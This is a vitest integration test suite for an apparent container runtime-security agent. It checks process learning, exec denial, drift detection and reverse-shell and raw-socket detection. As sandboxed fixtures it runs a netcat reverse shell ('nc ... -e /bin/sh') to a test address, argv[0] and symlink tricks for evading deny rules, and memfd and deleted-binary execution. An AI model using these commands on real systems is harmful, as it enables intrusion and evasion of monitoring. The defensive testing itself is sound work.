import { createHash } from "node:crypto";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { ContentState } from "#gen/gabion/event/v1/event_pb.ts";
import { LearningState } from "#gen/gabion/model/v1/model_pb.ts";
import { Delivery, Effect, Outcome } from "#gen/gabion/policy/v1/policy_pb.ts";
import { CONTAINERS, missing } from "../test/requirements.ts";
import { until } from "../tools/demo/until.ts";
import { AgentRig } from "../tools/sandbox/agent-rig.ts";
import { testProgram } from "../tools/sandbox/programs.ts";
import { Sandbox, type SandboxContainer, unifiedMount } from "../tools/sandbox/runc.ts";

const reason = missing(...CONTAINERS);
const onKernel = test.skipIf(reason !== "");
const IDLE = ["/bin/sh", "-c", "while true; do /bin/sleep 1; done"];
const PROGRAMS = [
  "/bin/sh",
  "/bin/sleep",
  "/bin/id",
  "/bin/nc",
  "/bin/ls",
  "/bin/cp",
  "/bin/chroot",
  "/bin/true",
  "/bin/rm",
];

function executable(name: Parameters<typeof testProgram>[0]) {
  return { content: testProgram(name), mode: 0o755 };
}

function sha256(file: string): string {
  return createHash("sha256").update(readFileSync(file)).digest("hex");
}

describe("what a learning container runs", () => {
  let rig: AgentRig;
  let web: SandboxContainer;

  beforeAll(async () => {
    if (reason !== "") return;
    rig = await AgentRig.open("learn", LearningState.LEARNING);
    await rig.rules({ process: { effect: Effect.ALERT, detectors: { drift: { effect: Effect.ALERT } } } });
    web = rig.sandbox.start("web", {
      args: IDLE,
      programs: PROGRAMS,
      applets: ["/usr/bin/date", "/usr/bin/env"],
      files: {
        "/opt/job.sh": { content: "#!/bin/sh\n/bin/id >/dev/null\n", mode: 0o755 },
        "/opt/memfd": executable("memfd"),
        "/opt/changed": executable("nothing"),
      },
    });
    await rig.watched("web");
  });
  afterAll(async () => rig?.[Symbol.asyncDispose]());

  onKernel("its first process is seen, because it was held until its policy was in place", async () => {
    const first = await rig.learned("/bin/sh");
    expect(first).toMatchObject({ name: "sh", contentState: ContentState.UNCHANGED, sha256: "" });
    expect((await rig.watched("web")).message).toMatchObject({ partlySeen: false, runtime: "runc" });
  });

  onKernel("a link is resolved to its file, and the name it was run as is kept", async () => {
    await web.exec("/usr/bin/date");
    expect(await rig.learned("/bin/busybox", "date")).toMatchObject({ contentState: ContentState.UNCHANGED });
  });

  onKernel("an applet that is run through /proc/self/exe keeps its real path and its name", async () => {
    await web.exec("/usr/bin/env", "-i", "/proc/self/exe", "id");
    await rig.learned("/bin/busybox", "env");
    expect(await rig.learned("/bin/busybox", "exe")).toBeDefined();
  });

  onKernel(
    "a script goes by its own path, its interpreter is the real path, and what it runs has it as parent",
    async () => {
      await web.exec("/opt/job.sh");
      expect(await rig.learned("/bin/sh", "/opt/job.sh")).toMatchObject({ contentState: ContentState.UNCHANGED });
      expect(await rig.learned("/bin/id")).toMatchObject({ parentPath: "/bin/sh" });
    },
  );

  onKernel("a script that is called by a relative name has its full path all the same", async () => {
    await web.exec("/bin/sh", "-c", "cd /opt/../opt && ./job.sh");
    const jobs = () =>
      rig
        .facts()
        .flatMap(({ kind }) => (kind.case === "process" && kind.value.name.endsWith("job.sh") ? [kind.value] : []));
    // The same program with another parent may be told again; under another name it may not.
    expect(new Set(jobs().map(({ name }) => name))).toEqual(new Set(["/opt/job.sh"]));
  });

  onKernel("chroot hides nothing of the path", async () => {
    await web.exec(
      "/bin/sh",
      "-c",
      "mkdir -p /jail/bin; /bin/cp /bin/true /jail/bin/true; /bin/chroot /jail /bin/true",
    );
    const found = await until("the chrooted program", 10_000, () =>
      rig.observations.find(
        (o) =>
          o.kind === "fact" &&
          o.value.fact?.kind.case === "process" &&
          o.value.fact.kind.value.path === "/jail/bin/true",
      ),
    );
    expect(found).toMatchObject({ value: { isHeld: true, detector: "drift" } });
    expect(rig.process("/jail/bin/true")).toMatchObject({
      contentState: ContentState.FOREIGN,
      sha256: sha256(join(web.rootfs, "bin/true")),
    });
  });

  onKernel("a program in memory is seen as such", async () => {
    await web.exec("/opt/memfd", "/bin/id");
    const fact = await until("the program in memory", 10_000, () =>
      rig.facts().find(({ kind }) => kind.case === "process" && kind.value.path.startsWith("memfd:")),
    );
    expect(fact.kind.value).toMatchObject({ path: "memfd:evil" });
  });

  onKernel("a file of the image that was changed is not the image's any more", async () => {
    writeFileSync(join(web.rootfs, "opt/changed"), testProgram("spawn"));
    await web.exec("/opt/changed", "0", "0", "/bin/true");
    expect(await rig.learned("/opt/changed")).toMatchObject({
      contentState: ContentState.CHANGED,
      sha256: sha256(join(web.rootfs, "opt/changed")),
    });
  });

  onKernel("a path of 4,000 bytes is told in full, or as cut", async () => {
    const deep = `/opt/${"d".repeat(200)}`.repeat(1) + `/${"e".repeat(200)}`.repeat(18);
    expect(deep.length).toBeGreaterThan(3_800);
    const script = `p=/opt/${"d".repeat(200)}; mkdir -p $p; cd $p; for i in $(seq 18); do mkdir ${"e".repeat(200)}; cd ${"e".repeat(200)}; done; /bin/cp /bin/sleep ./deep; exec -a sleep ./deep 0.5`;
    await web.exec("/bin/sh", "-c", script);
    const fact = await until("the deep program", 10_000, () =>
      rig.facts().find(({ kind }) => kind.case === "process" && kind.value.path.endsWith("/deep")),
    );
    expect(fact.kind.value).toMatchObject({ path: `${deep}/deep` });
  });

  onKernel("names and arguments that are no UTF-8, or made for terminals, are escaped", async () => {
    await web.exec(
      "/bin/sh",
      "-c",
      "cp /bin/true \"$(printf '/tmp/\\033[31m\\377red')\"; \"$(printf '/tmp/\\033[31m\\377red')\"",
    );
    expect(await rig.learned("/tmp/\\x1b[31m\\xffred")).toMatchObject({ name: "\\x1b[31m\\xffred" });
  });

  onKernel("a container that lives a few milliseconds is learned like any other", async () => {
    const short = rig.sandbox.start("short", { args: ["/bin/true"], programs: ["/bin/true"] });
    expect((await short.ended).status).toBe(0);
    await rig.learned("/bin/true");
    await until("its end to be told", 10_000, () =>
      rig.observations.find(
        (o) => o.kind === "presence" && o.value.container?.containerId === "short" && !o.value.isRunning,
      ),
    );
    expect(rig.agent.containers.byId("short")).toBeUndefined();
  });
});

describe("what an active container may run", () => {
  let rig: AgentRig;
  let web: SandboxContainer;

  beforeAll(async () => {
    if (reason !== "") return;
    rig = await AgentRig.open("active", LearningState.LEARNING);
    await rig.rules({ process: { effect: Effect.ALERT } });
    web = rig.sandbox.start("web", {
      args: IDLE,
      programs: PROGRAMS,
      files: {
        "/opt/trap": executable("trap"),
        "/opt/spawn": executable("spawn"),
        "/opt/nothing": executable("nothing"),
        "/opt/memfd": executable("memfd"),
      },
    });
    await rig.watched("web");
    await web.exec("/opt/spawn", "1", "0", "/opt/nothing");
    for (const path of ["/bin/sh", "/bin/sleep", "/opt/spawn", "/opt/nothing"]) await rig.learned(path);
    await rig.activate(LearningState.ACTIVE);
  });
  afterAll(async () => rig?.[Symbol.asyncDispose]());

  onKernel("known-good execs are only counted, in the kernel", async () => {
    const container = await rig.watched("web");
    const row = () => rig.agent.stats?.rows.find((r) => r.cgroupId === container.cgroup.id);
    const before = await until("counters", 5_000, row);
    await web.exec("/opt/spawn", "500", "0", "/opt/nothing");
    const after = await until("500 more", 5_000, () => {
      const now = row();
      return now && now.allowed >= before.allowed + 500n ? now : undefined;
    });
    // `spawn` itself is one of them; nothing of it was sent.
    expect(after.allowed - before.allowed).toBeGreaterThanOrEqual(501n);
    expect(after.emitted - before.emitted).toBe(0n);
    expect(rig.audits.filter((a) => a.container)).toEqual([]);
  });

  onKernel("an unknown process raises an audit with its reasons", async () => {
    await web.exec("/bin/id");
    const audit = await rig.audited("/bin/id", (a) => a.event?.actor?.path === "/bin/id");
    expect(audit).toMatchObject({ ruleName: "rule 0", delivery: Delivery.AUDITED, count: 1n });
    expect(audit.decision).toMatchObject({ outcome: Outcome.DEVIATION, effectAsked: Effect.ALERT });
    expect(audit.decision?.explanation?.nearest.length).toBeGreaterThan(0);
  });

  onKernel("repeats are folded with their exact count", async () => {
    for (let i = 0; i < 3; i += 1) await web.exec("/bin/ls", "/opt");
    await rig.audited("/bin/ls", (a) => a.event?.actor?.path === "/bin/ls");
    const all = await until("the folded repeats", 15_000, () => {
      const found = rig.audits.filter((a) => a.event?.actor?.path === "/bin/ls");
      return found.length === 2 ? found : undefined;
    });
    expect(all.map(({ count }) => count)).toEqual([1n, 2n]);
  });

  onKernel("a denied program dies before its first instruction, every time, and the container goes on", async () => {
    // By its name: what is denied by its path is refused before it gets this far.
    await rig.rules({
      process: { effect: Effect.PREVENT, denied: [{ process: "trap" }], allowed: [{ process: "/x" }] },
    });
    const { output } = await web.exec("/opt/spawn", "1000", "0", "/opt/trap");
    expect(JSON.parse(output)).toMatchObject({ killed: 1000, trapped: 0, clean: 0, other: 0 });
    const audit = await rig.audited("the trap", (a) => a.event?.actor?.path === "/opt/trap");
    expect(audit).toMatchObject({ delivery: Delivery.KILLED, deliveryNote: "killed before its first instruction" });
    expect(await web.isRunning()).toBe(true);
  });

  onKernel("a program denied by its path is refused: its caller gets EPERM and goes on", async () => {
    await rig.rules({ process: { effect: Effect.PREVENT, denied: [{ process: "/bin/ls" }] } });
    const { status, output } = await web.exec("/bin/sh", "-c", "/bin/ls /; echo status $?");
    expect(status).toBe(0);
    // Standard output and error come through two pipes, in either order.
    expect(output).toContain("Operation not permitted");
    expect(output).toContain("status 126");
    const audit = await rig.audited("the refusal", (a) => a.delivery === Delivery.DENIED);
    expect(audit).toMatchObject({ deliveryNote: "the exec failed with EPERM", ruleName: "rule 0" });
    expect(audit.decision).toMatchObject({ outcome: Outcome.DENIAL, effectApplied: Effect.PREVENT });
    expect(audit.event?.actor?.path).toBe("/bin/ls");
  });

  onKernel("a name in argv[0] does not hide a denied program, nor does a link", async () => {
    await rig.rules({ process: { effect: Effect.PREVENT, denied: [{ process: "nc" }], allowed: [{ process: "/x" }] } });
    const hidden = await web.exec("/bin/sh", "-c", "exec -a sleep /bin/nc -h");
    const linked = await web.exec("/bin/sh", "-c", "ln -s /bin/nc /tmp/harmless; /tmp/harmless -h");
    expect([hidden.status, linked.status]).toEqual([137, 137]);
  });

  onKernel("a file that replaced a known one is not known-good by its path", async () => {
    await rig.rules({ process: { effect: Effect.PREVENT } });
    const known = await web.exec("/opt/nothing");
    expect(known.status).toBe(0);
    writeFileSync(join(web.rootfs, "opt/nothing"), testProgram("spawn"));
    await web.exec("/opt/nothing", "20", "10", "/opt/nothing");
    const audit = await rig.audited("the replaced file", (a) => a.event?.actor?.path === "/opt/nothing");
    expect(audit.decision).toMatchObject({ outcome: Outcome.DEVIATION });
    expect(audit.delivery).toBe(Delivery.AFTER_THE_FACT);
  });

  onKernel("an unknown program under prevent is killed, a dropped one too", async () => {
    writeFileSync(join(web.rootfs, "tmp-drop"), testProgram("trap"), { mode: 0o755 });
    const dropped = await web.exec("/tmp-drop");
    const unknown = await web.exec("/bin/id");
    // The one in a folder of the image's programs is refused; the other one is killed at its first instruction.
    expect(dropped.status).toBe(137);
    expect(unknown.output).toContain("operation not permitted");
  });

  onKernel("an allowed pattern that the kernel cannot express turns killing there into asking", async () => {
    await rig.rules({ process: { effect: Effect.PREVENT, allowed: [{ process: "/bin/i*d" }] } });
    expect(await web.exec("/bin/id")).toMatchObject({ status: 0 });
  });

  onKernel("a crashed sensor is noticed, started again and audited, and its policy is back in force", async () => {
    await rig.rules({ process: { effect: Effect.PREVENT, denied: [{ process: "nc" }], allowed: [{ process: "/x" }] } });
    process.kill(rig.agent.sensorPid ?? 0, "SIGKILL");
    await rig.audited("the lost sensor", (a) => a.system?.name === "sensor_lost");
    void web.exec("/bin/nc", "-l", "-p", "7777");
    await rig.audited("the new sensor", (a) => a.system?.name === "sensor_restarted");
    expect((await web.exec("/bin/nc", "-h")).status).toBe(137);
    // What began meanwhile is found, and left alone.
    const late = await rig.audited("the listener", (a) => a.message.includes("nc") && a.delivery === Delivery.AUDITED);
    expect(late.deliveryNote).toBe("it ran before it was watched, so nothing was done about it");
  });

  onKernel(
    "a program in memory, or deleted, is no program of the image, and is killed where that is asked for",
    async () => {
      const allowed = ["/opt/memfd", "/bin/cp", "/bin/rm"].map((process) => ({ process }));
      await rig.rules({ process: { effect: Effect.PREVENT, allowed, detectors: { drift: {} } } });
      const sh = (command: string) => web.exec("/bin/sh", "-c", command);
      expect((await web.exec("/opt/memfd", "/bin/sleep", "0")).status).toBe(137);
      await rig.audited("memory", (a) => a.decision?.detector === "drift" && a.message.includes("memfd"));
      const { output } = await sh(
        "cp /bin/sleep /tmp/gone; exec 5</tmp/gone; rm /tmp/gone; /proc/self/fd/5 0; echo status $?",
      );
      expect(output).toContain("status 137");
      await rig.audited("the deleted one", (a) => a.decision?.detector === "drift" && a.message.includes("/tmp/gone"));
    },
  );

  onKernel("block stops the whole container and nothing else", async () => {
    const other = rig.sandbox.start("other", { args: IDLE, programs: PROGRAMS });
    await rig.watched("other");
    await rig.rules(
      { scope: { containers: ["web"] }, process: { effect: Effect.BLOCK, allowed: [{ process: "/x" }] } },
      { process: { effect: Effect.ALERT } },
    );
    await web.exec("/bin/sh", "-c", "for i in 1 2 3 4 5; do /bin/sleep 100 & done; /bin/ls");
    const audit = await rig.audited("the stopped container", (a) => a.decision?.effectApplied === Effect.BLOCK);
    expect(audit).toMatchObject({ delivery: Delivery.KILLED });
    expect(audit.deliveryNote).toMatch(
      /container stopped (through its control group|by the death of its first process)/,
    );
    expect((await web.ended).status).toBe(137);
    expect(await other.isRunning()).toBe(true);
  });
});

function isShellOnSocket(pid: string): boolean {
  const link = (name: string) => readlinkSync(`/proc/${pid}/${name}`);
  return link("exe").endsWith("/bin/sh") && link("fd/0").startsWith("socket:");
}

onKernel("what ran before the agent came up is learned, marked as partly seen, and never stopped", async () => {
  await using sandbox = await Sandbox.open(
    `gabion-before-${process.pid}`,
    mkdtempSync(join(tmpdir(), "gabion-before-")),
  );
  const web = sandbox.start("web", {
    // Runs nothing anew, which the second agent would rightly stop.
    args: ["/bin/sh", "-c", "/bin/sleep 300; true"],
    programs: PROGRAMS,
    capabilities: ["CAP_NET_RAW"],
    files: { "/opt/netprobe": executable("netprobe") },
  });
  await web.addAddresses("203.0.113.5");
  void web.exec("/opt/netprobe", "listen", "0.0.0.0", "8080", "60");
  void web.exec("/opt/netprobe", "raw-held");
  void web.exec("/opt/netprobe", "serve", "203.0.113.5", "4444", "60");
  await until(
    "it to listen",
    5_000,
    async () => (await web.exec("/opt/netprobe", "tcp", "203.0.113.5", "8080")).output.includes("ok") || undefined,
  );
  await until(
    "the other end",
    5_000,
    async () => (await web.exec("/opt/netprobe", "tcp", "203.0.113.5", "4444")).output.includes("ok") || undefined,
  );
  // Somebody's shell, in a group of its own below the container's.
  void web.exec("/bin/nc", "203.0.113.5", "4444", "-e", "/bin/sh");
  const group = join(unifiedMount(), sandbox.scope, "web");
  const shell = await until("the shell", 5_000, () =>
    readFileSync(join(group, "cgroup.procs"), "utf8")
      .split("\n")
      .find((pid) => pid !== "" && isShellOnSocket(pid)),
  );
  mkdirSync(join(group, "below"));
  writeFileSync(join(group, "below/cgroup.procs"), shell);
  await using rig = await AgentRig.over(sandbox, LearningState.LEARNING, {
    process: { effect: Effect.ALERT },
    network: { effect: Effect.ALERT },
  });
  expect((await rig.watched("web")).message.partlySeen).toBe(true);
  expect(await rig.learned("/bin/sh")).toMatchObject({ name: "sh" });
  await rig.learned("/opt/netprobe");
  await until("the port", 5_000, () =>
    rig.facts().find(({ kind }) => kind.case === "listen" && kind.value.port === 8080),
  );
  await until("the connection", 5_000, () =>
    rig.facts().find(({ kind }) => kind.case === "outbound" && kind.value.port === 4444),
  );
  await using strict = await AgentRig.over(sandbox, LearningState.ACTIVE, {
    process: { effect: Effect.BLOCK, detectors: { reverse_shell: {} } },
    network: { effect: Effect.BLOCK, detectors: { raw_socket: {} } },
  });
  const detected = (detector: string) => strict.audited(detector, (a) => a.decision?.detector === detector);
  expect((await detected("reverse_shell")).message).toContain("takes its commands from a connection");
  expect((await detected("raw_socket")).event?.actor?.path).toBe("/opt/netprobe");
  await strict.audited("the connection", (a) => a.message.includes("`203.0.113.5` tcp/4444"));
  const audit = await strict.audited("the port", (a) => a.message.includes("tcp/8080"));
  expect(audit.deliveryNote).toBe("it ran before it was watched, so nothing was done about it");
  expect(await web.isRunning()).toBe(true);
});

onKernel("a program that is found running is the same item of the model as one that was seen to begin", async () => {
  await using sandbox = await Sandbox.open(`gabion-found-${process.pid}`, mkdtempSync(join(tmpdir(), "gabion-found-")));
  const options = {
    args: ["/bin/sh", "-c", "while true; do /bin/sleep 300; done"],
    programs: ["/bin/sh", "/bin/sleep", "/bin/cp", "/bin/rm"],
    files: {
      "/opt/netprobe": executable("netprobe"),
      "/opt/memfd": executable("memfd"),
      "/opt/setuid": { ...executable("netprobe"), mode: 0o4755 },
      // Long enough for its name to be cut in the task's, and with an argument of the interpreter's own.
      "/opt/a-job-with-a-long-name.sh": { content: "#!/bin/sh -e\n/bin/sleep 60\ntrue\n", mode: 0o755 },
    },
  };
  const waits = ["syscall", "34"]; // pause
  const start = async (id: string) => {
    const container = sandbox.start(id, options);
    void container.exec("/opt/a-job-with-a-long-name.sh", "now");
    void container.exec("/bin/sh", "-c", "cd /opt && ./a-job-with-a-long-name.sh");
    void container.exec("/opt/memfd", "/opt/netprobe", ...waits);
    void container.execAs("1000:1000", "/opt/setuid", ...waits);
    await container.exec(
      "/bin/sh",
      "-c",
      "/bin/cp /opt/netprobe /tmp/gone; /tmp/gone syscall 34 >/dev/null 2>&1 & /bin/sleep 0.2; /bin/rm /tmp/gone",
    );
    return container;
  };
  await start("before");
  const procs = join(unifiedMount(), sandbox.scope, "before/cgroup.procs");
  const runs = () =>
    readFileSync(procs, "utf8")
      .trim()
      .split("\n")
      .flatMap((pid) =>
        existsSync(`/proc/${pid}/exe`)
          ? [`${readlinkSync(`/proc/${pid}/exe`)} ${readFileSync(`/proc/${pid}/comm`, "utf8")}`]
          : [],
      );
  const programs = ["/memfd:evil", "/opt/setuid", "/tmp/gone (deleted)", "a-job-with-a-l"];
  await until(
    "all to run before there is an agent",
    10_000,
    () => programs.every((program) => runs().some((each) => each.includes(program))) || undefined,
  );
  await using rig = await AgentRig.over(sandbox, LearningState.LEARNING, { process: { effect: Effect.ALERT } });
  await rig.watched("before");
  const itemsOf = (id: string) => {
    const container = rig.agent.containers.byId(id)?.id;
    const of = (o: (typeof rig.observations)[number]) =>
      o.kind === "fact" && o.value.containerId === container && o.value.fact?.kind.case === "process"
        ? [`${o.value.fact.kind.value.path} as ${o.value.fact.kind.value.name}`]
        : [];
    return new Set(rig.observations.flatMap(of));
  };
  const lasting = [
    "/bin/sh as /opt/a-job-with-a-long-name.sh",
    "memfd:evil as netprobe",
    "/opt/setuid as setuid",
    "/tmp/gone as gone",
  ];
  await until("what ran before", 10_000, () => lasting.every((item) => itemsOf("before").has(item)) || undefined);
  await start("live");
  await until("what begins", 10_000, () => lasting.every((item) => itemsOf("live").has(item)) || undefined);
  expect([...itemsOf("before")].filter((item) => !itemsOf("live").has(item))).toEqual([]);
});
